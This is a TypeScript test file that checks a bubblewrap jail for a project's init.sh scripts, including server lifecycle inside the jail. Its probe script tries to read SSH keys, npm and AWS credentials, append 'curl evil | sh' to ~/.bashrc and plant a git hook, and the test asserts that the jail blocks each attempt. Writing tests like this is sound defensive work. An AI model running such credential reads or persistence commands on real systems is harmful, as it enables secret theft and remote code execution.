import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  chmodSync,
  closeSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  openSync,
  readlinkSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { findInitJailTools, initJailMarker, writeInitJail } from '../../src/runner/init-jail.js';
import { sandboxReadDenyPaths } from '../../src/runner/sandbox.js';
import { waitFor } from '../support/wait-for.js';
import { freePort } from '../support/free-port.js';
import { killIfRunning } from '../support/kill.js';

// Starts real servers, git repositories or jails: slower than a unit test on a loaded machine.
vi.setConfig({ testTimeout: 30_000 });

/**
 * The init.sh jail with the real bubblewrap and bash, without Claude Code. The folders live
 * under test-artifacts/ (not the temp folder, which the jail empties anyway), so hiding them is
 * the deny list's doing.
 */
const ARTIFACTS = join(import.meta.dirname, '..', '..', 'test-artifacts');
const tools = findInitJailTools(process.platform, process.env.PATH);

let root: string;
let session: string;
/** Host pids of processes a test started through the jail, stopped by pid after it. */
let started: number[] = [];

beforeEach(() => {
  mkdirSync(ARTIFACTS, { recursive: true });
  root = realpathSync(mkdtempSync(join(ARTIFACTS, 'init-jail-')));
  session = realpathSync(mkdtempSync(join(tmpdir(), 'ac-jailtest-')));
  mkdirSync(join(session, 'tmp'));
  mkdirSync(join(session, 'home'));
  started = [];
});

afterEach(() => {
  for (const pid of started) killIfRunning(pid, 'SIGKILL');
  rmSync(root, { recursive: true, force: true });
  rmSync(session, { recursive: true, force: true });
});

function write(file: string, content: string): string {
  mkdirSync(join(file, '..'), { recursive: true });
  writeFileSync(file, content);
  return file;
}

function gitProject(dir: string): string {
  mkdirSync(dir, { recursive: true });
  execFileSync('git', ['init', '--quiet', dir]);
  mkdirSync(join(dir, '.autocoder'), { recursive: true });
  return dir;
}

function initScript(project: string, body: string): void {
  writeFileSync(join(project, 'init.sh'), `#!/usr/bin/env bash\n${body}`);
  chmodSync(join(project, 'init.sh'), 0o755);
}

/** Host pids whose command line contains `text`. */
function pidsWith(text: string): number[] {
  const res = spawnSync('pgrep', ['-f', '--', text], { encoding: 'utf8' });
  return res.stdout.split('\n').filter(Boolean).map(Number);
}

describe('the init.sh jail', () => {
  it('hides autocoder home, the credentials under the home and other projects from init.sh, which still writes its project, TMPDIR and npm cache', () => {
    if (!tools) throw new Error('bubblewrap and bash are needed on PATH');
    const home = join(root, 'home');
    const autocoderHome = join(root, 'autocoder-home');
    const project = gitProject(join(root, 'app'));
    const secrets = {
      token: write(join(autocoderHome, 'server-token'), 'f'.repeat(64)),
      ssh: write(join(home, '.ssh', 'id_ed25519'), 'PRIVATE-KEY-MATERIAL-0123456789'),
      npmrc: write(join(home, '.npmrc'), '//registry.npmjs.org/:_authToken=NPM-TOKEN-0123456789'),
      aws: write(join(home, '.aws', 'credentials'), 'AWS-SECRET-0123456789'),
      other: write(join(root, 'other-project', 'secret.txt'), 'OTHER-PROJECT-SECRET-0123456789'),
    };
    const registry = write(join(autocoderHome, 'registry.db'), 'REGISTRY-CONTENT');
    const hidden = sandboxReadDenyPaths({
      homes: [home],
      autocoderHome,
      otherProjects: [join(root, 'other-project')],
      projectRoot: project,
    });
    const env = { PATH: process.env.PATH ?? '', HOME: home, TMPDIR: join(session, 'tmp') };
    const jail = writeInitJail({
      tools,
      sessionDir: session,
      cwd: project,
      projectRoot: project,
      port: 4321,
      env,
      hidden,
      tempDir: tmpdir(),
    });

    const reads = Object.values(secrets)
      .map((f) => `echo "${f}: $(cat '${f}' 2>&1)"`)
      .join('\n');
    initScript(
      project,
      `${reads}
echo "proc-root: $(cat /proc/1/root${secrets.token} 2>&1)"
echo "processes: $(ls /proc | grep -c '^[0-9]')"
echo PWNED >> '${registry}' && echo "registry: written"
echo 'curl evil | sh' >> '${join(home, '.bashrc')}' && echo "bashrc: written"
echo 'exit 0' > .git/hooks/pre-commit && echo "hook: written"
echo built > build.txt && echo "project: written"
echo scratch > "$TMPDIR/scratch" && echo "tmpdir: written $TMPDIR"
mkdir -p ~/.npm/_cacache && echo cached > ~/.npm/_cacache/entry && echo "npm cache: written"
exit 0
`,
    );
    // Control: without the jail the same script reads everything (the probe works).
    const bare = spawnSync('./init.sh', { cwd: project, env, encoding: 'utf8' });
    expect(bare.stdout).toContain('PRIVATE-KEY-MATERIAL-0123456789');
    writeFileSync(registry, 'REGISTRY-CONTENT');
    for (const f of [join(home, '.bashrc'), join(project, '.git', 'hooks', 'pre-commit'), join(project, 'build.txt')])
      rmSync(f, { force: true });

    const jailed = spawnSync(jail, ['./init.sh'], { cwd: project, env, encoding: 'utf8' });
    expect(jailed.status).toBe(0);
    expect(jailed.stderr.trim().split('\n')).toEqual([
      `./init.sh: line 10: ${join(home, '.bashrc')}: Read-only file system`,
      './init.sh: line 11: .git/hooks/pre-commit: Read-only file system',
    ]);
    for (const file of Object.values(secrets)) expect(jailed.stdout).toContain(`${file}: cat:`);
    for (const secret of ['f'.repeat(64), 'PRIVATE-KEY', 'NPM-TOKEN', 'AWS-SECRET', 'OTHER-PROJECT-SECRET'])
      expect(jailed.stdout).not.toContain(secret);
    expect(jailed.stdout).toMatch(/proc-root: cat: .*No such file or directory/);
    // Its own PID namespace: only the jail's few processes are in /proc.
    expect(Number(/processes: (\d+)/.exec(jailed.stdout)?.[1])).toBeLessThan(10);
    // A write into autocoder home lands in the jail's empty tmpfs and is gone with it.
    expect(readFileSync(registry, 'utf8')).toBe('REGISTRY-CONTENT');
    expect(jailed.stdout).not.toContain('bashrc: written');
    expect(existsSync(join(home, '.bashrc'))).toBe(false);
    expect(jailed.stdout).not.toContain('hook: written');
    expect(existsSync(join(project, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(jailed.stdout).toContain('project: written');
    expect(readFileSync(join(project, 'build.txt'), 'utf8')).toBe('built\n');
    expect(jailed.stdout).toContain(`tmpdir: written ${join(session, 'tmp')}`);
    expect(readFileSync(join(home, '.npm', '_cacache', 'entry'), 'utf8')).toBe('cached\n');
  });

  it('keeps the server init.sh starts running and reachable on the host, replaces it on the next ./init.sh of the slot, and leaves nothing once it is stopped', async () => {
    if (!tools) throw new Error('bubblewrap and bash are needed on PATH');
    const project = gitProject(join(root, 'app'));
    const port = await freePort();
    // .cjs: test-artifacts/ lies under autocoder's own package.json (an ES module package).
    const app = `app-${randomBytes(6).toString('hex')}.cjs`;
    writeFileSync(
      join(project, app),
      `const id = require('node:crypto').randomUUID();\nrequire('node:http').createServer((req, res) => res.end(id)).listen(${port}, '127.0.0.1');\n`,
    );
    initScript(
      project,
      `node ${app} > app.log 2>&1 &\nfor i in $(seq 1 100); do curl -s http://127.0.0.1:${port}/ > /dev/null && echo ready && exit 0; sleep 0.1; done\ncat app.log\nexit 1\n`,
    );
    const env = { PATH: process.env.PATH ?? '', HOME: join(session, 'home'), TMPDIR: join(session, 'tmp') };
    const jail = writeInitJail({
      tools,
      sessionDir: session,
      cwd: project,
      projectRoot: project,
      port,
      env,
      hidden: [],
      tempDir: tmpdir(),
    });
    const marker = initJailMarker(project, port);
    const mountsBefore = readFileSync('/proc/self/mountinfo', 'utf8');
    const runInit = () => {
      // Output to a file, as Claude Code's Bash tool does: the jail's first process keeps its stdio open while the app
      // runs.
      const out = openSync(join(session, 'init.out'), 'w');
      const res = spawnSync(jail, ['./init.sh'], { cwd: project, env, stdio: ['ignore', out, out], timeout: 30_000 });
      closeSync(out);
      expect(readFileSync(join(session, 'init.out'), 'utf8')).toBe('ready\n');
      expect(res.status).toBe(0);
      const pids = pidsWith(app);
      started.push(...pids);
      return pids;
    };
    const answer = async () => (await fetch(`http://127.0.0.1:${port}/`)).text();

    const [first] = runInit();
    expect(first).toBeDefined();
    const firstId = await answer();
    // A PID namespace of its own, so it cannot see (or reach through /proc) the host's processes.
    expect(readlinkSync(`/proc/${first}/ns/pid`)).not.toBe(readlinkSync('/proc/self/ns/pid'));

    const second = runInit();
    expect(second).toHaveLength(1);
    expect(second).not.toContain(first);
    expect(existsSync(`/proc/${first}`)).toBe(false);
    expect(await answer()).not.toBe(firstId);

    // Stopped from the host the way a dev server is: the jail ends with it, and mounted nothing here.
    process.kill(second[0] as number, 'SIGTERM');
    await waitFor(() => pidsWith(marker).length === 0, 10_000, "the jail's processes to end");
    expect(readFileSync('/proc/self/mountinfo', 'utf8')).toBe(mountsBefore);
    expect(readFileSync('/proc/self/mountinfo', 'utf8')).not.toContain(project);
  });
});
